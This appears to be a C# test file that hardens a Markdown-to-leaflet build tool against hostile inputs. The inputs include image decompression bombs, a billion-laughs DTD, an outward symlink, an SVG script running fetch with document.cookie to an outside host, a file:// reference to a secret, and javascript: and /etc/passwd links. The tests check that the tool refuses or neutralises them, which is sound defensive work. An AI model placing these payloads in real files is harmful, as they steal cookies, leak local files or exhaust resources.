using System.Text;
using System.Text.RegularExpressions;
using NkHandouts.Build;

namespace NkHandouts.Cli.Tests;

/// <summary>
/// The rest of the error catalogue through the real build (the first part is <see cref="ErrorCatalogTests"/>):
/// hostile images and logos, fonts, page limits, encodings, a corrupt reference document. Errors: the code at
/// path[:line:col], exit 1, every previous output byte for byte as it was. Warnings: located, exit 0, outputs built.
/// </summary>
public sealed class HardeningCatalogTests
{
    private const string Article = "content/nk-cell-therapy-myths.md";
    private const string Patient = "content/nk-cell-therapy-myths.patient.md";
    private const string Leaflet = "templates/patient-leaflet/template.yaml";
    private const string Logo = "templates/patient-leaflet/logo.svg";

    private const string Laughs = "<?xml version='1.0'?>\n<!DOCTYPE svg [\n <!ENTITY a 'lol'>\n <!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>\n <!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'>\n]>\n";

    public static TheoryData<string, string> Errors => new()
    {
        // name, expected "path:line:col: error CODE" (regex)
        { "corrupt image", @"nk-cell-therapy-myths\.patient\.md:\d+:1: error NK405: image 'chart\.png' is refused: the PNG file is truncated" },
        { "unsupported image", @"nk-cell-therapy-myths\.patient\.md:\d+:1: error NK405: image 'chart\.png' is refused: it is not a PNG or JPEG file \(it is a GIF\)" },
        { "png decompression bomb", @"nk-cell-therapy-myths\.patient\.md:\d+:1: error NK405: .*50000 × 50000 = 2,500,000,000 pixels; the limit is 40,000,000" },
        { "jpeg decompression bomb", @"nk-cell-therapy-myths\.patient\.md:\d+:1: error NK405: .*65000 × 65000" },
        { "symbolic link pointing out", @"nk-cell-therapy-myths\.md:\d+:1: error NK112: .*symbolic link" },
        { "svg logo with a dtd", @"logo\.svg:2:1: error NK405: 'logo\.svg' is refused: it has a DTD" },
        { "malformed svg logo", @"logo\.svg:\d+:\d+: error NK405: 'logo\.svg' is refused: it is not well-formed SVG" },
        { "font not found", @"template\.yaml: error NK208: .*'No Such Sans'" },
        { "page limit", @"nk-cell-therapy-myths\.patient\.md:1:1: error NK406: the leaflet would have more than 2 pages" },
        { "page limit out of range", @"template\.yaml:\d+:\d+: error NK109: 'maxPages' is 0" },
        { "binary file", @"nk-cell-therapy-myths\.md:30:6: error NK002: .*NUL byte" },
        { "not utf-8", @"nk-cell-therapy-myths\.md:30:6: error NK002: file is not valid UTF-8" },
        { "corrupt reference.docx", @"reference\.docx: error NK220" },
    };

    [Theory]
    [MemberData(nameof(Errors))]
    public void Bad_input_fails_located_and_keeps_every_previous_output(string name, string expected)
    {
        using var project = new ProjectCopy();
        var before = BuildOnce(project, name);

        Break(project, name);
        var (exit, output, error) = CliRunner.Run(project.Args("build"));

        Assert.True(exit == 1, $"{name}: exit {exit}\n{output}\n{error}");
        Assert.Matches(new Regex(expected), error);
        Assert.Contains("hint:", error);
        if (name == "png decompression bomb")
        {
            // The briefing leaves the bomb out too (Word would decode it), with a warning, and builds.
            Assert.Matches(@"nk-cell-therapy-myths\.md:\d+:1: warning NK420: image is 50000 × 50000 pixels", error);
        }

        // Outputs the broken input does not touch may build (a briefing with a warning); every other one, and in
        // particular every failed one, is byte for byte the previous file.
        var failed = Regex.Matches(output, @"FAILED\s+(\S+)").Select(m => m.Groups[1].Value).ToList();
        var built = Regex.Matches(output, @"built\s+(\S+)").Select(m => m.Groups[1].Value).ToHashSet();
        Assert.True(failed.Count > 0 || output.Contains("input error", StringComparison.Ordinal), name + ": nothing failed\n" + output);
        foreach (var (file, hash) in before.Where(b => !built.Contains(b.Key)))
        {
            Assert.True(hash == InputHasher.File(Path.Combine(project.Out, file)), $"{name}: {file} changed");
        }

        Assert.All(failed, f => Assert.True(before.ContainsKey(f), f));

        Assert.Empty(Directory.GetFiles(project.Out, "*" + AtomicFile.TempSuffix));
    }

    public static TheoryData<string, string> Warnings => new()
    {
        { "svg logo with scripts and external references", @"logo\.svg: warning NK404: logo\.svg: <script> at line 3 is never run or drawn" },
        { "characters no font has", @"nk-cell-therapy-myths\.patient\.md:\d+:10: warning NK401: no font has '𓀀' \(U\+13000\), '𝄞' \(U\+1D11E\)" },
        { "unsafe links", @"nk-cell-therapy-myths\.md:\d+:\d+: warning NK110: .*javascript:" },
        { "raw html", @"nk-cell-therapy-myths\.md:\d+:\d+: warning NK106" },
        { "low resolution image", @"nk-cell-therapy-myths\.patient\.md: warning NK402: image 'small\.png' prints at \d+ dpi" },
        { "image inside text", @"nk-cell-therapy-myths\.md:\d+:\d+: warning NK115: an image inside text" },
    };

    [Theory]
    [MemberData(nameof(Warnings))]
    public void Suspect_input_builds_with_a_located_warning(string name, string expected)
    {
        using var project = new ProjectCopy();
        BuildOnce(project, name);

        Break(project, name);
        var (exit, output, error) = CliRunner.Run(project.Args("build"));

        Assert.True(exit == 0, $"{name}: exit {exit}\n{output}\n{error}");
        Assert.Matches(new Regex(expected), output + error);
        Assert.All(project.Outputs(), f => Assert.Null(OutputIntegrity.Problem(Path.Combine(project.Out, f))));
        if (name.StartsWith("svg", StringComparison.Ordinal))
        {
            // The referenced file was never read into the leaflet.
            foreach (var pdf in project.Outputs().Where(f => f.EndsWith(".pdf", StringComparison.Ordinal)))
            {
                Assert.DoesNotContain("TOP-SECRET", PdfText(Path.Combine(project.Out, pdf)));
            }
        }

        if (name == "unsafe links")
        {
            var docx = Path.Combine(project.Out, "nk-cell-therapy-myths.clinician-briefing.docx");
            var zip = Encoding.UTF8.GetString(File.ReadAllBytes(docx));
            Assert.DoesNotContain("javascript", zip, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public void A_bom_and_crlf_line_endings_are_accepted_and_change_nothing()
    {
        using var project = new ProjectCopy();
        var before = BuildOnce(project, "bom");
        var briefingText = DocumentXml(Path.Combine(project.Out, Briefing));
        var path = Path.Combine(project.Root, Article);
        var text = File.ReadAllText(path).Replace("\n", "\r\n", StringComparison.Ordinal);
        File.WriteAllBytes(path, [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(text)]);

        var (exit, output, error) = CliRunner.Run(project.Args("build"));

        Assert.True(exit == 0, output + error);
        Assert.DoesNotContain("NK002", error);
        foreach (var (file, hash) in before.Where(b => b.Key.EndsWith(".pdf", StringComparison.Ordinal)))
        {
            Assert.True(hash == InputHasher.File(Path.Combine(project.Out, file)), $"{file} differs after BOM + CRLF");
        }

        // The briefing records the source file's hash (a custom property), so only its text is compared.
        Assert.Equal(briefingText, DocumentXml(Path.Combine(project.Out, Briefing)));
    }

    private const string Briefing = "nk-cell-therapy-myths.clinician-briefing.docx";

    private static string DocumentXml(string docx)
    {
        using var zip = System.IO.Compression.ZipFile.OpenRead(docx);
        using var reader = new StreamReader(zip.GetEntry("word/document.xml")!.Open());
        return reader.ReadToEnd();
    }

    private static Dictionary<string, string> BuildOnce(ProjectCopy project, string name)
    {
        var first = CliRunner.Run(project.Args("build"));
        Assert.True(first.Exit == 0, name + ": first build failed\n" + first.Out + first.Err);
        var before = project.Outputs().Where(f => f != "manifest.json").ToDictionary(f => f, f => InputHasher.File(Path.Combine(project.Out, f)));
        Assert.NotEmpty(before);
        return before;
    }

    private static void Break(ProjectCopy project, string name)
    {
        string P(string relative) => Path.Combine(project.Root, relative);
        void Image(string file, byte[] bytes)
        {
            // Leaflets are made from the patient article, the briefing from the clinician one (#15: no patient
            // leaflet from clinician text): the image goes into both.
            File.WriteAllBytes(P("content/" + file), bytes);
            File.AppendAllText(P(Article), $"\n![A chart of results]({file})\n");
            File.AppendAllText(P(Patient), $"\n![A chart of results]({file})\n");
        }

        void Replace(string file, string from, string to)
        {
            var text = File.ReadAllText(P(file));
            Assert.Contains(from, text);
            File.WriteAllText(P(file), text.Replace(from, to, StringComparison.Ordinal));
        }

        void InsertByte(string file, int line, int column, byte b)
        {
            var bytes = File.ReadAllBytes(P(file)).ToList();
            var at = 0;
            for (var l = 1; l < line; l++)
            {
                at = bytes.IndexOf((byte)'\n', at) + 1;
            }

            bytes.Insert(at + column - 1, b);
            File.WriteAllBytes(P(file), [.. bytes]);
        }

        var logo = File.ReadAllText(P(Logo));
        switch (name)
        {
            case "corrupt image":
                var png = TestImages.Png(64, 64);
                Image("chart.png", png[..(png.Length - 30)]);
                break;
            case "unsupported image":
                Image("chart.png", TestImages.Gif);
                break;
            case "png decompression bomb":
                Image("chart.png", TestImages.PngClaiming(50_000, 50_000));
                break;
            case "jpeg decompression bomb":
                Image("chart.jpg", TestImages.JpegClaiming(65_000, 65_000));
                break;
            case "symbolic link pointing out":
                using (var outside = new TempDir())
                {
                    File.WriteAllBytes(outside.Combine("secret.png"), TestImages.Png(8, 8));
                    File.CreateSymbolicLink(P("content/chart.png"), outside.Combine("secret.png"));
                    File.AppendAllText(P(Article), "\n![A chart of results](chart.png)\n");
                }

                break;
            case "svg logo with a dtd":
                File.WriteAllText(P(Logo), Laughs + logo[logo.IndexOf("<svg", StringComparison.Ordinal)..]);
                break;
            case "malformed svg logo":
                File.WriteAllText(P(Logo), logo.Replace("</svg>", "", StringComparison.Ordinal));
                break;
            case "svg logo with scripts and external references":
                File.WriteAllText(P("secret.txt"), "TOP-SECRET");
                var svg = logo[logo.IndexOf("<svg", StringComparison.Ordinal)..];
                var open = svg.IndexOf('>') + 1;
                File.WriteAllText(P(Logo), "\n" + svg[..open] + "\n<script>fetch('https://example.org/?'+document.cookie)</script>\n"
                    + $"<image href='file://{P("secret.txt")}' width='10' height='10'/>\n<use href='https://example.org/x.svg#a'/>\n" + svg[open..]);
                break;
            case "font not found":
                Replace(Leaflet, "bodyFont: DejaVu Sans", "bodyFont: No Such Sans");
                break;
            case "page limit":
                File.AppendAllText(P(Leaflet), "limits:\n  maxPages: 2\n");
                break;
            case "page limit out of range":
                File.AppendAllText(P(Leaflet), "limits: { maxPages: 0 }\n");
                break;
            case "binary file":
                InsertByte(Article, 30, 6, 0);
                break;
            case "not utf-8":
                InsertByte(Article, 30, 6, 0xE9); // Latin-1 é
                break;
            case "corrupt reference.docx":
                File.WriteAllBytes(P("templates/clinician-briefing/reference.docx"), [.. "PK\x03\x04"u8, .. new byte[200]]);
                break;
            case "characters no font has":
                File.AppendAllText(P(Patient), "\nThe clef 𝄞 and the sign 𓀀 appear here.\n");
                break;
            case "unsafe links":
                File.AppendAllText(P(Article), "\nSee [this](javascript:alert(1)), [that](file:///etc/passwd) and [the clinic](https://example.org).\n");
                break;
            case "low resolution image":
                // The chart goes inside the body, as an author would place one. It is drawn the width of the text
                // (a 40 × 30 px image, 8 dpi) and cannot split: where it lands decides whether a page is left over
                // 40 % empty, which every patient template refuses (enforced page check) — not what this case is
                // about. (Before "Researchers are also testing" it left the booklet's page 3 half empty once lists
                // stopped leaving their last item alone at a page head: more of the list now fits on page 2.)
                File.WriteAllBytes(P("content/small.png"), TestImages.Png(40, 30));
                var patient = File.ReadAllText(P(Patient));
                var at = patient.IndexOf("\nSome newer treatments", StringComparison.Ordinal);
                Assert.True(at > 0, "the sample's paragraph the chart goes before has changed");
                File.WriteAllText(P(Patient), patient.Insert(at, "\n![A small chart](small.png)\n"));
                break;
            case "image inside text":
                File.WriteAllBytes(P("content/small.png"), TestImages.Png(400, 300));
                File.AppendAllText(P(Article), "\nSee ![a chart](small.png) here.\n");
                break;
            case "raw html":
                File.AppendAllText(P(Article), "\n<div onclick=\"x()\">Raw</div>\n");
                break;
            default:
                throw new ArgumentException(name);
        }
    }

    private static string PdfText(string pdf)
    {
        var (exit, text, _) = RunTool(ExternalTool.Require("pdftotext", "poppler-utils"), pdf, "-");
        Assert.Equal(0, exit);
        return text;
    }

    private static (int Exit, string Out, string Err) RunTool(string tool, params string[] args)
    {
        var psi = new System.Diagnostics.ProcessStartInfo(tool) { RedirectStandardOutput = true, RedirectStandardError = true };
        foreach (var a in args)
        {
            psi.ArgumentList.Add(a);
        }

        using var p = System.Diagnostics.Process.Start(psi)!;
        var o = p.StandardOutput.ReadToEnd();
        var e = p.StandardError.ReadToEnd();
        p.WaitForExit();
        return (p.ExitCode, o, e);
    }
}
